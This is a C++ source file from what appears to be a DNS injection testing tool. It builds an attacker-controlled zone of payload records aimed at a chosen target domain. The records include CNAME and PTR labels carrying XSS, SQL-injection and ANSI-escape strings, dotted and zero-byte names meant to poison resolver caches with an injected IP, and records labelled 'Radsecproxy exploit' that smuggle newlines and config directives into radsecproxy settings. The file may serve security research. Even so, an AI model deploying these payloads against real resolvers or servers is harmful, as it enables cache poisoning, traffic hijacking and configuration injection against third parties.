#include "dnsinj/payloads.hpp"

#include <algorithm>
#include <sstream>

#include <json.hpp>

namespace dnsinj::payloads {

using wire::ARdata;
using wire::NameRdata;
using wire::NaptrRdata;
using wire::OpaqueRdata;
using wire::ResourceRecord;
using wire::SoaRdata;
using wire::SrvRdata;
using wire::TxtRdata;

namespace {

RawName name(std::vector<std::string> labels) {
    return RawName(std::move(labels));
}

RawName join(std::vector<std::string> head, const RawName& tail) {
    for (const auto& l : tail.labels())
        head.push_back(l);
    return RawName(std::move(head));
}

ResourceRecord rr(RawName owner, uint16_t rtype, wire::Rdata rdata,
                  uint32_t ttl = 60) {
    ResourceRecord r;
    r.owner = std::move(owner);
    r.rtype = rtype;
    r.ttl = ttl;
    r.rdata = std::move(rdata);
    return r;
}

// "www\.target.com" for target.com: the first label swallows the leading
// dot of the victim name.
RawName dotted_sibling(const RawName& target) {
    std::vector<std::string> labels = target.labels();
    labels.front() = "www." + labels.front();
    return RawName(std::move(labels));
}

// "www.target.com\000.<attacker>": zero byte glued to the victim TLD label.
RawName zero_spliced(const RawName& target, const RawName& attacker) {
    std::vector<std::string> labels = target.labels();
    labels.insert(labels.begin(), "www");
    labels.back().push_back('\0');
    for (const auto& l : attacker.labels())
        labels.push_back(l);
    return RawName(std::move(labels));
}

RawName reverse_owner(int octet) {
    std::string o = std::to_string(octet);
    return name({o, o, o, o, "in-addr", "arpa"});
}

std::string ldap_dn(const RawName& domain) {
    std::string dn = "/";
    bool first = true;
    for (const auto& label : domain.labels()) {
        if (!first)
            dn.push_back(',');
        dn += "dc=" + label;
        first = false;
    }
    return dn;
}

} // namespace

RawName baseline_a_name(const RawName& origin) {
    return join({"works", "cnameslash"}, origin);
}

RawName baseline_cname_name(const RawName& origin) {
    return join({"cnamebase"}, origin);
}

RawName baseline_srv_name(const RawName& origin) {
    return join({"_base", "_tcp"}, origin);
}

RawName baseline_txt_name(const RawName& origin) {
    return join({"basetxt"}, origin);
}

RawName victim_name(const ZoneFile& zone) {
    return zone.target_domain.with_prefix("www");
}

std::vector<ResourceRecord> ZoneFile::all_records() const {
    std::vector<ResourceRecord> out = boilerplate;
    for (const auto& entry : entries)
        out.insert(out.end(), entry.records.begin(), entry.records.end());
    return out;
}

const PayloadEntry* ZoneFile::find(const std::string& id) const {
    for (const auto& entry : entries)
        if (entry.id == id)
            return &entry;
    return nullptr;
}

ZoneFile build_payload_zone(const RawName& attacker_domain,
                            const RawName& target_domain,
                            std::array<uint8_t, 4> inject_ip) {
    if (attacker_domain == target_domain)
        throw std::invalid_argument("attacker and target domains must differ");
    const RawName& x = attacker_domain;
    ZoneFile zone;
    zone.origin = x;
    zone.target_domain = target_domain;
    zone.inject_ip = inject_ip;

    RawName ns1 = join({"ns1"}, x);
    SoaRdata soa;
    soa.mname = ns1;
    soa.rname = join({"hostmaster"}, x);
    zone.boilerplate = {
        rr(x, wire::kTypeSOA, soa),
        rr(x, wire::kTypeNS, NameRdata{ns1}),
        rr(ns1, wire::kTypeA, ARdata{{192, 0, 2, 53}}),
        rr(baseline_a_name(x), wire::kTypeA, ARdata{{192, 0, 2, 1}}),
        rr(baseline_srv_name(x), wire::kTypeSRV, SrvRdata{0, 0, 2083, ns1}),
        rr(baseline_txt_name(x), wire::kTypeTXT, TxtRdata{{"baseline"}}),
    };

    auto add = [&](PayloadEntry entry) { zone.entries.push_back(std::move(entry)); };

    auto cname_entry = [&](const std::string& id, const std::string& trigger_label,
                           RawName cname_target, Effect effect) {
        PayloadEntry e;
        e.id = id;
        e.trigger_qname = join({trigger_label}, x);
        e.trigger_qtype = wire::kTypeA;
        e.expected_effect = effect;
        e.records = {rr(e.trigger_qname, wire::kTypeCNAME,
                        NameRdata{std::move(cname_target)})};
        return e;
    };

    add(cname_entry("base", "cnamebase", baseline_a_name(x), Effect::Transparent));
    add(cname_entry("slash", "cnameslash", join({"t/t", "cnameslash"}, x),
                    Effect::AppInject));
    add(cname_entry("at", "cnameat", join({"t@t", "cnameat"}, x),
                    Effect::AppInject));
    add(cname_entry(
        "xss", "cnamexss",
        join({"<img/src=''/onerror='alert&#x28&#x22xss&#x22&#x29'>", "cnamexss"}, x),
        Effect::AppInject));
    add(cname_entry("sql", "cnamesql", join({"'OR''=''--", "cnamesql"}, x),
                    Effect::AppInject));
    add(cname_entry("ansi", "cnameansi",
                    join({"\033[31;1;4mHello\033[0m", "cnameansi"}, x),
                    Effect::AppInject));

    RawName dotted = dotted_sibling(target_domain);
    {
        PayloadEntry e;
        e.id = "injectdot_cname";
        e.trigger_qname = join({"injectdot"}, x);
        e.trigger_qtype = wire::kTypeA;
        e.expected_effect = Effect::CacheInject;
        e.records = {rr(e.trigger_qname, wire::kTypeCNAME, NameRdata{dotted}),
                     rr(dotted, wire::kTypeA, ARdata{inject_ip})};
        add(std::move(e));
    }
    {
        PayloadEntry e;
        e.id = "injectdot_direct";
        e.trigger_qname = dotted;
        e.trigger_qtype = wire::kTypeA;
        e.expected_effect = Effect::CacheInject;
        e.records = {rr(dotted, wire::kTypeA, ARdata{inject_ip})};
        add(std::move(e));
    }
    RawName zeroed = zero_spliced(target_domain, x);
    {
        PayloadEntry e;
        e.id = "injectzero_cname";
        e.trigger_qname = join({"injectzero"}, x);
        e.trigger_qtype = wire::kTypeA;
        e.expected_effect = Effect::CacheInject;
        e.records = {rr(e.trigger_qname, wire::kTypeCNAME, NameRdata{zeroed}),
                     rr(zeroed, wire::kTypeA, ARdata{inject_ip})};
        add(std::move(e));
    }
    {
        PayloadEntry e;
        e.id = "injectzero_direct";
        e.trigger_qname = zeroed;
        e.trigger_qtype = wire::kTypeA;
        e.expected_effect = Effect::CacheInject;
        e.records = {rr(zeroed, wire::kTypeA, ARdata{inject_ip})};
        add(std::move(e));
    }
    {
        PayloadEntry e;
        e.id = "ldap_srv";
        e.trigger_qname = join({"_ldap", "_tcp"}, x);
        e.trigger_qtype = wire::kTypeSRV;
        e.expected_effect = Effect::AppInject;
        e.records = {rr(e.trigger_qname, wire::kTypeSRV,
                        SrvRdata{0, 0, 389, name({ldap_dn(x)})})};
        add(std::move(e));
    }
    {
        PayloadEntry e;
        e.id = "eduroam_srv";
        e.trigger_qname = join({"_radsec", "_tcp"}, x);
        e.trigger_qtype = wire::kTypeSRV;
        e.expected_effect = Effect::AppInject;
        e.records = {
            rr(e.trigger_qname, wire::kTypeSRV,
               SrvRdata{0, 0, 2083,
                        name({"6", "6", "6",
                              "6\n\ttype\tTCP\n\tsecret\tsomething\n}\n%"})})};
        e.metadata["dig_escaped"] =
            R"(6.6.6.6\\n\\ttype\\tTCP\\n\\tsecret\\tsomething\\n}\\n%.)";
        add(std::move(e));
    }
    {
        PayloadEntry e;
        e.id = "spf_exp";
        e.trigger_qname = join({"exp"}, x);
        e.trigger_qtype = wire::kTypeTXT;
        e.expected_effect = Effect::Oversize;
        std::string exp_name =
            wire::to_presentation(e.trigger_qname, wire::EscapeStyle::Strict).text;
        exp_name.pop_back(); // SPF modifier uses the name without root dot
        // The 510-byte explanation does not fit one character-string; DNS
        // requires chunking at 255.
        std::string filler(510, 'A');
        e.records = {
            rr(x, wire::kTypeTXT, TxtRdata{{"v=spf1 exp=" + exp_name}}),
            rr(e.trigger_qname, wire::kTypeTXT,
               TxtRdata{{filler.substr(0, 255), filler.substr(255)}})};
        add(std::move(e));
    }

    const std::vector<std::pair<std::string, Effect>> ptr_payloads = {
        {"works", Effect::Transparent},
        {"te/st", Effect::AppInject},
        {"te@st", Effect::AppInject},
        {"t\0t", Effect::AppInject}, // careful: see below, built explicitly
        {"t.t", Effect::AppInject},
        {"<img/src=''/onerror='alert&#x28&#x22xss&#x22&#x29'>", Effect::AppInject},
        {"'OR''=''--", Effect::AppInject},
        {"\033[31;1;4mHello\033[0m", Effect::AppInject},
    };
    for (int i = 0; i < 8; ++i) {
        PayloadEntry e;
        e.id = "ptr_" + std::to_string(i + 1);
        e.trigger_qname = reverse_owner(i + 1);
        e.trigger_qtype = wire::kTypePTR;
        e.expected_effect = ptr_payloads[i].second;
        std::string label = ptr_payloads[i].first;
        if (i == 3)
            label = std::string("t\0t", 3); // embedded zero byte
        e.records = {rr(e.trigger_qname, wire::kTypePTR,
                        NameRdata{name({label, "test"})})};
        add(std::move(e));
    }

    // Radsecproxy exploit records. Each gets its own realm subdomain so the
    // catalog entries stay individually addressable; the record data is the
    // dig-escaped text after unescaping (\\n, \\t as real bytes).
    auto radsec_naptr = [&](int n, std::vector<std::string> replacement,
                            const std::string& raw) {
        PayloadEntry e;
        e.id = "radsec_" + std::to_string(n);
        e.trigger_qname = join({"radsec" + std::to_string(n)}, x);
        e.trigger_qtype = wire::kTypeNAPTR;
        e.expected_effect = Effect::AppInject;
        NaptrRdata rd;
        rd.flags = "S";
        rd.service = "x-eduroam:radius.tls";
        rd.replacement = name(std::move(replacement));
        e.records = {rr(e.trigger_qname, wire::kTypeNAPTR, std::move(rd))};
        e.metadata["dig_escaped"] = raw;
        add(std::move(e));
    };
    auto radsec_srv = [&](int n, std::vector<std::string> target,
                          const std::string& raw) {
        PayloadEntry e;
        e.id = "radsec_" + std::to_string(n);
        e.trigger_qname =
            join({"_radsec", "_tcp", "radsec" + std::to_string(n)}, x);
        e.trigger_qtype = wire::kTypeSRV;
        e.expected_effect = Effect::AppInject;
        e.records = {rr(e.trigger_qname, wire::kTypeSRV,
                        SrvRdata{0, 0, 2083, name(std::move(target))})};
        e.metadata["dig_escaped"] = raw;
        add(std::move(e));
    };

    radsec_naptr(1, {"@6", "6", "6", "6"}, R"(\@6.6.6.6.)");
    radsec_naptr(2, {"-f/some/file"}, R"(-f/some/file.)");
    radsec_srv(3, {"asd\n\tinclude\t/dev/zero\n"},
               R"(asd\\n\\tinclude\\t/dev/zero\\n.)");
    // The regex chunk cannot ride in one label (63-octet cap); extra label
    // boundaries split it at the natural line breaks of the config text.
    radsec_srv(
        4,
        {"as", "d\n\tmatchcertificateattribute\t",
         "CN:/(.*+++++++++++++++++++(\\w+))", "/im\n\ttype\ttls\n}\n%%p"},
        R"(as.d\\n\\tmatchcertificateattribute\\t.CN:/\(.*+++++++++++++++++++\(\\\\w+\)\)./im\\n\\ttype\\ttls\\n}\\n%%p.)");
    radsec_srv(5, {"6", "6", "6", "6\n\ttype\tTCP\n\tsecret\tsomething\n}\n%%p"},
               R"(6.6.6.6\\n\\ttype\\tTCP\\n\\tsecret\\tsomething\\n}\\n%%p.)");

    return zone;
}

namespace {

std::string quote_txt(const std::string& s) {
    std::string out = "\"";
    for (unsigned char c : s) {
        if (c == '"' || c == '\\') {
            out.push_back('\\');
            out.push_back(static_cast<char>(c));
        } else if (c < 0x20 || c > 0x7E) {
            char buf[5];
            std::snprintf(buf, sizeof buf, "\\%03u", c);
            out.append(buf);
        } else {
            out.push_back(static_cast<char>(c));
        }
    }
    out.push_back('"');
    return out;
}

std::string name_text(const RawName& n) {
    return wire::to_presentation(n, wire::EscapeStyle::Strict).text;
}

// Zone-file token form of a name: strict text with the zone-syntax
// characters ';' and '"' additionally escaped so tokenizing stays sane.
std::string zone_name_text(const RawName& n) {
    std::string out;
    for (char c : name_text(n)) {
        if (c == ';' || c == '"')
            out.push_back('\\');
        out.push_back(c);
    }
    return out;
}

std::string rdata_text(const ResourceRecord& r) {
    std::ostringstream os;
    std::visit(
        [&](const auto& rd) {
            using T = std::decay_t<decltype(rd)>;
            if constexpr (std::is_same_v<T, ARdata>) {
                os << wire::format_ipv4(rd.addr);
            } else if constexpr (std::is_same_v<T, NameRdata>) {
                os << zone_name_text(rd.target);
            } else if constexpr (std::is_same_v<T, SrvRdata>) {
                os << rd.priority << ' ' << rd.weight << ' ' << rd.port << ' '
                   << zone_name_text(rd.target);
            } else if constexpr (std::is_same_v<T, NaptrRdata>) {
                os << rd.order << ' ' << rd.preference << ' '
                   << quote_txt(rd.flags) << ' ' << quote_txt(rd.service) << ' '
                   << quote_txt(rd.regexp) << ' ' << zone_name_text(rd.replacement);
            } else if constexpr (std::is_same_v<T, TxtRdata>) {
                bool first = true;
                for (const auto& s : rd.strings) {
                    if (!first)
                        os << ' ';
                    os << quote_txt(s);
                    first = false;
                }
            } else if constexpr (std::is_same_v<T, SoaRdata>) {
                os << zone_name_text(rd.mname) << ' ' << zone_name_text(rd.rname) << ' '
                   << rd.serial << ' ' << rd.refresh << ' ' << rd.retry << ' '
                   << rd.expire << ' ' << rd.minimum;
            } else if constexpr (std::is_same_v<T, OpaqueRdata>) {
                // RFC 3597 generic form
                os << "\\# " << rd.bytes.size();
                os << std::hex;
                for (uint8_t b : rd.bytes) {
                    os << ' ';
                    os.width(2);
                    os.fill('0');
                    os << int(b);
                }
            }
        },
        r.rdata);
    return os.str();
}

std::vector<std::string> tokenize_zone_line(const std::string& line) {
    std::vector<std::string> tokens;
    std::string current;
    bool in_quote = false;
    bool has_token = false;
    for (size_t i = 0; i < line.size(); ++i) {
        char c = line[i];
        if (in_quote) {
            if (c == '\\' && i + 1 < line.size()) {
                char next = line[i + 1];
                if (std::isdigit(static_cast<unsigned char>(next)) &&
                    i + 3 < line.size()) {
                    int v = (next - '0') * 100 + (line[i + 2] - '0') * 10 +
                            (line[i + 3] - '0');
                    current.push_back(static_cast<char>(v));
                    i += 3;
                } else {
                    current.push_back(next);
                    ++i;
                }
            } else if (c == '"') {
                in_quote = false;
                tokens.push_back("\"" + current); // marker for quoted token
                current.clear();
                has_token = false;
            } else {
                current.push_back(c);
            }
        } else if (c == '\\' && i + 1 < line.size()) {
            // keep escape pairs opaque so "\;" and "\"" survive tokenizing;
            // from_presentation unescapes them later
            current.push_back(c);
            current.push_back(line[i + 1]);
            ++i;
            has_token = true;
        } else if (c == '"') {
            in_quote = true;
            has_token = false;
            current.clear();
        } else if (c == ' ' || c == '\t') {
            if (has_token) {
                tokens.push_back(current);
                current.clear();
                has_token = false;
            }
        } else if (c == ';') {
            break;
        } else {
            current.push_back(c);
            has_token = true;
        }
    }
    if (has_token)
        tokens.push_back(current);
    if (in_quote)
        throw wire::CodecError(wire::CodecError::Code::BadEscape,
                               "unterminated quoted string in zone line");
    return tokens;
}

std::string unquote(const std::string& token) {
    if (token.empty() || token[0] != '"')
        throw wire::CodecError(wire::CodecError::Code::BadEscape,
                               "expected quoted string");
    return token.substr(1);
}

} // namespace

std::string emit_zonefile(const ZoneFile& zone) {
    std::ostringstream os;
    os << "; zone " << name_text(zone.origin) << "\n";
    os << "; payload catalog: " << zone.entries.size() << " entries\n";
    for (const auto& r : zone.all_records()) {
        os << zone_name_text(r.owner) << ' ' << r.ttl << ' '
           << (r.rclass == wire::kClassCH ? "CH" : "IN") << ' '
           << wire::rtype_name(r.rtype) << ' ' << rdata_text(r) << '\n';
    }
    return os.str();
}

std::vector<ResourceRecord> parse_zonefile(const std::string& text) {
    std::vector<ResourceRecord> records;
    std::istringstream is(text);
    std::string line;
    while (std::getline(is, line)) {
        auto tokens = tokenize_zone_line(line);
        if (tokens.empty())
            continue;
        if (tokens.size() < 5)
            throw wire::CodecError(wire::CodecError::Code::Truncated,
                                   "short zone record line");
        ResourceRecord r;
        r.owner = wire::from_presentation(tokens[0]);
        r.ttl = static_cast<uint32_t>(std::stoul(tokens[1]));
        r.rclass = tokens[2] == "CH" ? wire::kClassCH : wire::kClassIN;
        auto code = wire::rtype_code(tokens[3]);
        if (!code)
            throw wire::CodecError(wire::CodecError::Code::Truncated,
                                   "unknown record type " + tokens[3]);
        r.rtype = *code;
        size_t n = tokens.size();
        switch (*code) {
        case wire::kTypeA: {
            auto addr = wire::parse_ipv4(tokens[4]);
            if (!addr)
                throw wire::CodecError(wire::CodecError::Code::Truncated,
                                       "bad A rdata");
            r.rdata = ARdata{*addr};
            break;
        }
        case wire::kTypeNS:
        case wire::kTypeCNAME:
        case wire::kTypePTR:
            r.rdata = NameRdata{wire::from_presentation(tokens[4])};
            break;
        case wire::kTypeSRV: {
            if (n < 8)
                throw wire::CodecError(wire::CodecError::Code::Truncated,
                                       "short SRV rdata");
            SrvRdata rd;
            rd.priority = static_cast<uint16_t>(std::stoul(tokens[4]));
            rd.weight = static_cast<uint16_t>(std::stoul(tokens[5]));
            rd.port = static_cast<uint16_t>(std::stoul(tokens[6]));
            rd.target = wire::from_presentation(tokens[7]);
            r.rdata = rd;
            break;
        }
        case wire::kTypeNAPTR: {
            if (n < 10)
                throw wire::CodecError(wire::CodecError::Code::Truncated,
                                       "short NAPTR rdata");
            NaptrRdata rd;
            rd.order = static_cast<uint16_t>(std::stoul(tokens[4]));
            rd.preference = static_cast<uint16_t>(std::stoul(tokens[5]));
            rd.flags = unquote(tokens[6]);
            rd.service = unquote(tokens[7]);
            rd.regexp = unquote(tokens[8]);
            rd.replacement = wire::from_presentation(tokens[9]);
            r.rdata = rd;
            break;
        }
        case wire::kTypeTXT: {
            TxtRdata rd;
            for (size_t i = 4; i < n; ++i)
                rd.strings.push_back(unquote(tokens[i]));
            r.rdata = rd;
            break;
        }
        case wire::kTypeSOA: {
            if (n < 11)
                throw wire::CodecError(wire::CodecError::Code::Truncated,
                                       "short SOA rdata");
            SoaRdata rd;
            rd.mname = wire::from_presentation(tokens[4]);
            rd.rname = wire::from_presentation(tokens[5]);
            rd.serial = static_cast<uint32_t>(std::stoul(tokens[6]));
            rd.refresh = static_cast<uint32_t>(std::stoul(tokens[7]));
            rd.retry = static_cast<uint32_t>(std::stoul(tokens[8]));
            rd.expire = static_cast<uint32_t>(std::stoul(tokens[9]));
            rd.minimum = static_cast<uint32_t>(std::stoul(tokens[10]));
            r.rdata = rd;
            break;
        }
        default:
            throw wire::CodecError(wire::CodecError::Code::Truncated,
                                   "unsupported record type in zone file");
        }
        records.push_back(std::move(r));
    }
    return records;
}

std::vector<ResourceRecord> lookup_payload(const ZoneFile& zone,
                                           const RawName& qname,
                                           uint16_t qtype) {
    std::vector<ResourceRecord> all = zone.all_records();
    auto owned_by = [&](const RawName& owner, bool want_qtype) {
        std::vector<const ResourceRecord*> out;
        for (const auto& r : all) {
            if (r.owner != owner)
                continue;
            if (want_qtype && r.rtype != qtype && r.rtype != wire::kTypeCNAME)
                continue;
            out.push_back(&r);
        }
        return out;
    };

    size_t max_strip = std::min(kMaxWildcardStrip,
                                qname.label_count() > 0 ? qname.label_count() - 1
                                                        : 0);
    for (size_t strip = 0; strip <= max_strip; ++strip) {
        RawName suffix = qname.without_prefix(strip);
        auto initial = owned_by(suffix, true);
        if (initial.empty())
            continue;
        std::vector<ResourceRecord> answer;
        for (const auto* r : initial) {
            ResourceRecord copy = *r;
            copy.owner = qname; // wildcard synthesis keeps the queried name
            if (std::find(answer.begin(), answer.end(), copy) == answer.end())
                answer.push_back(std::move(copy));
        }
        // Follow CNAME chains within the zone (same record set semantics
        // the simulator's authoritative role needs).
        size_t i = 0;
        while (i < answer.size()) {
            if (answer[i].rtype == wire::kTypeCNAME) {
                const auto& target =
                    std::get<NameRdata>(answer[i].rdata).target;
                for (const auto* r : owned_by(target, false)) {
                    bool already = std::any_of(
                        answer.begin(), answer.end(),
                        [&](const ResourceRecord& a) { return a == *r; });
                    if (!already && (r->rtype == qtype ||
                                     r->rtype == wire::kTypeCNAME ||
                                     r->rtype == wire::kTypeA))
                        answer.push_back(*r);
                }
            }
            ++i;
        }
        return answer;
    }
    return {};
}

std::string catalog_json(const ZoneFile& zone) {
    nlohmann::json out = nlohmann::json::array();
    for (const auto& e : zone.entries) {
        nlohmann::json item = {
            {"id", e.id},
            {"trigger_qname", name_text(e.trigger_qname)},
            {"qtype", wire::rtype_name(e.trigger_qtype)},
            {"expected_effect", effect_name(e.expected_effect)},
        };
        if (!e.metadata.empty())
            item["metadata"] = e.metadata;
        out.push_back(std::move(item));
    }
    return out.dump(2);
}

const char* effect_name(Effect e) {
    switch (e) {
    case Effect::Transparent: return "Transparent";
    case Effect::CacheInject: return "CacheInject";
    case Effect::AppInject: return "AppInject";
    case Effect::Oversize: return "Oversize";
    }
    return "?";
}

} // namespace dnsinj::payloads
